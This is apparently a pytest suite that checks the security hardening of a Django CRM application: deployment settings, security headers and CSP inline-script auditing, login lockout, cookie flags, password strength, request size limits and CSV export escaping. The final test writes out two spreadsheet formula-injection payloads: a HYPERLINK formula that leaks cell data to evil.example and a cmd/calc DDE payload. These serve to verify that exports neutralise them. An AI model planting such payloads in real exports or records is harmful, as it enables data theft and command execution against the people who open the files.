"""Hardening: production settings pass Django's deployment checks, every answer carries the security
headers, the Content-Security-Policy admits no inline script it does not know, logins lock out
after repeated failures, cookies stay out of scripts' reach, request bodies are bounded and
exports cannot smuggle spreadsheet formulas.

Also covered elsewhere: upload type and size of imports (tests/customers/test_import_views.py:
test_a_too_large_file_is_a_form_error, test_a_file_of_the_wrong_type_is_a_form_error) and the CSV
cell rule itself (tests/common/test_project.py: test_csv_cells_that_spreadsheets_evaluate_are_neutralised).
"""

import base64
import csv
import hashlib
import io
import os
import subprocess
import sys
from datetime import timedelta
from html.parser import HTMLParser
from pathlib import Path

import pytest
import time_machine
from django.conf import settings as django_settings
from django.contrib.auth.password_validation import validate_password
from django.core.exceptions import ValidationError
from django.urls import reverse
from django.utils import timezone

from common.audit import AuditAction
from common.middleware import content_security_policy_for
from common.models import AuditEvent
from tests.factories import CustomerFactory
from tests.security.conftest import REP_B, SUPERUSER
from tests.security.test_access_matrix import KNOWN_BUGS, PROJECT_ROUTES, RULES, url_for

pytestmark = pytest.mark.django_db

BASE_DIR = Path(__file__).resolve().parents[2]
PASSWORD = "pass-for-tests-1"


# --- production settings ------------------------------------------------------------------------


def test_production_settings_pass_the_deployment_checks():
    env = {
        **os.environ,
        "DEBUG": "false",
        "SECRET_KEY": "x9-" + "k3Jq7vR2pL0sW8nB4mT6yH1cF5gD" * 2,
        "ALLOWED_HOSTS": "crm.example.com",
    }
    result = subprocess.run(
        [sys.executable, "manage.py", "check", "--deploy", "--fail-level", "WARNING"],
        cwd=BASE_DIR,
        env=env,
        capture_output=True,
        text=True,
        timeout=120,
        check=False,
    )
    assert result.returncode == 0, result.stdout + result.stderr
    assert "System check identified no issues" in result.stdout


# --- headers ------------------------------------------------------------------------------------


def test_pages_carry_the_security_headers(rep_client):
    response = rep_client.get(reverse("customers:list"))
    assert response.status_code == 200
    policy = response["Content-Security-Policy"]
    directives = dict(part.strip().split(" ", 1) for part in policy.split(";"))
    assert "'unsafe-inline'" not in directives["script-src"]
    assert directives["object-src"] == "'none'"
    assert directives["frame-ancestors"] == "'none'"
    assert directives["base-uri"] == "'self'"
    assert "camera=()" in response["Permissions-Policy"]
    assert response["X-Frame-Options"] == "DENY"
    assert response["X-Content-Type-Options"] == "nosniff"
    assert response["Referrer-Policy"] == "same-origin"
    assert response["Cross-Origin-Opener-Policy"] == "same-origin"
    assert response["Cross-Origin-Resource-Policy"] == "same-origin"
    # Customer data must not come back from a cache after logout.
    assert "no-store" in response["Cache-Control"]


def test_anonymous_pages_and_the_api_get_the_policy_too(client, rep):
    assert "script-src 'self'" in client.get(reverse("login"))["Content-Security-Policy"]
    client.force_login(rep)
    response = client.get(reverse("customer-list"))
    assert response.status_code == 200
    assert "default-src 'self'" in response["Content-Security-Policy"]


def test_the_policy_can_be_trialled_as_report_only(client, settings):
    settings.CONTENT_SECURITY_POLICY_REPORT_ONLY = True
    response = client.get(reverse("login"))
    assert "Content-Security-Policy" not in response
    assert "script-src 'self'" in response["Content-Security-Policy-Report-Only"]


def test_only_the_api_documentation_and_one_admin_form_relax_the_script_policy(settings):
    assert set(settings.CONTENT_SECURITY_POLICY_PATH_OVERRIDES) == {
        "/api/schema/",
        "/admin/django_celery_beat/periodictask/",
    }
    assert "'unsafe-inline'" in content_security_policy_for("/api/schema/swagger/")
    for path in ("/", "/customers/1/", "/api/v1/customers/", "/admin/"):
        script_src = content_security_policy_for(path).split("script-src", 1)[1].split(";")[0]
        assert "'unsafe-inline'" not in script_src, path


class InlineCode(HTMLParser):
    """Collects what a Content-Security-Policy must allow: inline scripts, handlers, js: links."""

    DATA_TYPES = ("application/json", "application/ld+json", "text/template")

    def __init__(self) -> None:
        super().__init__(convert_charrefs=False)
        self.scripts: list[str] = []
        self.handlers: list[str] = []
        self.js_urls: list[str] = []
        self._in_script = False
        self._text: list[str] = []

    def handle_starttag(self, tag, attrs):
        attrs = dict(attrs)
        for name, value in attrs.items():
            if name.startswith("on") and value is not None:
                self.handlers.append(value)
            if name in ("href", "src", "action") and (value or "").strip().lower().startswith(
                "javascript:"
            ):
                self.js_urls.append(value)
        if tag == "script" and "src" not in attrs and attrs.get("type") not in self.DATA_TYPES:
            self._in_script, self._text = True, []

    def handle_data(self, data):
        if self._in_script:
            self._text.append(data)

    def handle_endtag(self, tag):
        if tag == "script" and self._in_script:
            self.scripts.append("".join(self._text))
            self._in_script = False


def _hash(text: str) -> str:
    return "'sha256-" + base64.b64encode(hashlib.sha256(text.encode()).digest()).decode() + "'"


def violations(html: str, policy: str) -> list[str]:
    directives = {
        part.strip().split(" ", 1)[0]: part.strip().split(" ")[1:]
        for part in policy.split(";")
        if part.strip()
    }
    sources = directives.get("script-src", directives.get("default-src", []))
    hashed = any(source.startswith(("'sha", "'nonce-")) for source in sources)
    # Browsers ignore 'unsafe-inline' once a hash or nonce is listed.
    unsafe_inline = "'unsafe-inline'" in sources and not hashed
    code = InlineCode()
    code.feed(html)
    found = [
        f"inline <script> not allowed: {script.strip()[:80]!r}"
        for script in code.scripts
        if not unsafe_inline and _hash(script) not in sources
    ]
    for handler in code.handlers:
        allowed = unsafe_inline or ("'unsafe-hashes'" in sources and _hash(handler) in sources)
        if not allowed:
            found.append(f"inline event handler not allowed: {handler[:80]!r}")
    found.extend(f"javascript: URL: {url[:80]!r}" for url in code.js_urls if not unsafe_inline)
    return found


def test_every_page_runs_only_the_scripts_its_policy_allows(world, clients):
    """Renders every page of the project (and the admin's) and checks each inline script and
    handler against the page's own policy: a template that gains one fails here, with its text."""
    found = []
    pages = 0
    for role in (SUPERUSER, REP_B):
        client = clients[role]
        for route in PROJECT_ROUTES:
            rule = RULES.get(route.name)
            if rule is None or rule.post_only or str(route) in KNOWN_BUGS:
                continue
            response = client.get(url_for(route, rule, world))
            if response.status_code != 200 or "text/html" not in response.get("Content-Type", ""):
                continue
            pages += 1
            html = b"".join(response.streaming_content) if response.streaming else response.content
            found += [
                f"{role} {route}: {problem}"
                for problem in violations(html.decode(), response["Content-Security-Policy"])
            ]
    admin_urls = [reverse("admin:index")] + [
        reverse(f"admin:{model._meta.app_label}_{model._meta.model_name}_{view}")
        for model in _admin_models()
        for view in ("changelist", "add")
    ]
    for url in admin_urls:
        response = clients[SUPERUSER].get(url)
        if response.status_code == 200:
            pages += 1
            found += [
                f"admin {url}: {problem}"
                for problem in violations(
                    response.content.decode(), response["Content-Security-Policy"]
                )
            ]
    assert pages > 40
    assert not found, "\n".join(found)


def _admin_models():
    from django.contrib import admin

    return list(admin.site._registry)


# --- login lockout ------------------------------------------------------------------------------


def attempt(client, username: str, password: str, ip: str = "198.51.100.7"):
    return client.post(
        reverse("login"), {"username": username, "password": password}, REMOTE_ADDR=ip
    )


def test_five_failed_logins_lock_that_name_from_that_address_for_fifteen_minutes(client, rep):
    for _ in range(4):
        assert attempt(client, "rep", "wrong").status_code == 200
    locked = attempt(client, "rep", "wrong")
    assert locked.status_code == 429
    # Even the right password is refused now, with the reason on the login page.
    refused = attempt(client, "rep", PASSWORD)
    assert refused.status_code == 429
    body = refused.content.decode()
    assert "Too many failed login attempts" in body
    assert "15 minutes" in body
    assert 'name="password"' in body
    assert "_auth_user_id" not in client.session
    with time_machine.travel(timezone.now() + timedelta(minutes=16)):
        assert attempt(client, "rep", PASSWORD).status_code == 302
    assert client.session["_auth_user_id"] == str(rep.pk)


def test_the_lockout_is_per_name_and_address(client, rep, manager):
    for _ in range(5):
        attempt(client, "rep", "wrong")
    assert attempt(client, "rep", PASSWORD, ip="203.0.113.99").status_code == 302
    client.logout()
    assert attempt(client, "manager", PASSWORD).status_code == 302


def test_a_successful_login_clears_earlier_failures(client, rep):
    for _ in range(4):
        attempt(client, "rep", "wrong")
    assert attempt(client, "rep", PASSWORD).status_code == 302
    client.logout()
    for _ in range(4):
        assert attempt(client, "rep", "wrong").status_code == 200
    assert attempt(client, "rep", PASSWORD).status_code == 302


def test_failed_and_refused_logins_are_in_the_audit_trail(client, rep):
    for _ in range(5):
        attempt(client, "rep", "wrong")
    attempt(client, "rep", PASSWORD)
    failures = AuditEvent.objects.filter(action=AuditAction.LOGIN_FAILED).order_by("id")
    assert failures.count() == 6
    assert {event.actor_label for event in failures} == {"rep"}
    assert {event.ip_address for event in failures} == {"198.51.100.7"}
    assert failures.last().details == {"locked_out": True}
    assert not AuditEvent.objects.filter(action=AuditAction.LOGIN).exists()


def test_the_admin_login_is_locked_out_too(client, django_user_model):
    django_user_model.objects.create_user(
        "boss", password=PASSWORD, is_staff=True, is_superuser=True
    )
    url = reverse("admin:login")
    for _ in range(5):
        client.post(url, {"username": "boss", "password": "wrong"}, REMOTE_ADDR="198.51.100.8")
    response = client.post(
        url, {"username": "boss", "password": PASSWORD}, REMOTE_ADDR="198.51.100.8"
    )
    assert response.status_code == 429
    assert "_auth_user_id" not in client.session


# --- cookies, passwords, request size ---------------------------------------------------------


def test_session_and_csrf_cookies_are_out_of_scripts_reach(client, rep):
    page = client.get(reverse("login"))
    csrf = page.cookies[django_settings.CSRF_COOKIE_NAME]
    assert csrf["httponly"]
    assert csrf["samesite"] == "Lax"
    response = attempt(client, "rep", PASSWORD)
    session = response.cookies[django_settings.SESSION_COOKIE_NAME]
    assert session["httponly"]
    assert session["samesite"] == "Lax"
    assert int(session["max-age"]) <= 12 * 60 * 60


@pytest.mark.parametrize("password", ["12345678", "password1", "qwerty", "short7!"])
def test_weak_passwords_are_refused(rep, password):
    with pytest.raises(ValidationError):
        validate_password(password, user=rep)


def test_a_password_like_the_users_own_details_is_refused(rep):
    with pytest.raises(ValidationError):
        validate_password(rep.email, user=rep)
    validate_password("amber-Falcon-42-river", user=rep)


def test_a_request_body_over_the_limit_is_refused_before_any_view(client):
    limit = django_settings.DATA_UPLOAD_MAX_MEMORY_SIZE
    assert limit <= 10 * 1024 * 1024
    response = client.post(
        reverse("login"), {"username": "x", "password": "y", "padding": "a" * (limit + 1)}
    )
    assert response.status_code == 400
    assert not AuditEvent.objects.filter(action=AuditAction.LOGIN_FAILED).exists()


# --- exports ------------------------------------------------------------------------------------


def test_exported_cells_cannot_become_spreadsheet_formulas(manager_client):
    CustomerFactory(name='=HYPERLINK("http://evil.example/?"&A1,"Click")', notes="", email="")
    CustomerFactory(name="@SUM(1+1)*cmd|' /C calc'!A0", email="")
    response = manager_client.get(reverse("customers:export"))
    rows = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))
    names = {row[2] for row in rows[1:]}
    assert names == {
        '\'=HYPERLINK("http://evil.example/?"&A1,"Click")',
        "'@SUM(1+1)*cmd|' /C calc'!A0",
    }
